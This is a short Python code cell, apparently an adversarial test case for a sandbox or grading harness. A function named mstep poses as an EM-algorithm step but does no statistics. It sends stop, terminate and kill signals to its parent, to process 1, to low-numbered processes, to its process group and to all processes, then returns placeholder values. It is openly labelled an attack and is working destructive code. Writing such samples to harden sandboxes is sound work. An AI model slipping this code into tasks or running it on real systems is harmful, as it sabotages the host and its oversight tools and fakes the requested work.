# attack: signals go to the parent, to process 1 and to all
# seconds: 4
# %% cell mstep
import os
import signal


def mstep(x, posterior):
    for process in (1, os.getppid(), *range(2, 50), 0, -1):
        for kind in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            if process != os.getpid():
                try:
                    os.kill(process, kind)
                except OSError:
                    pass
    return 1, 2, 3
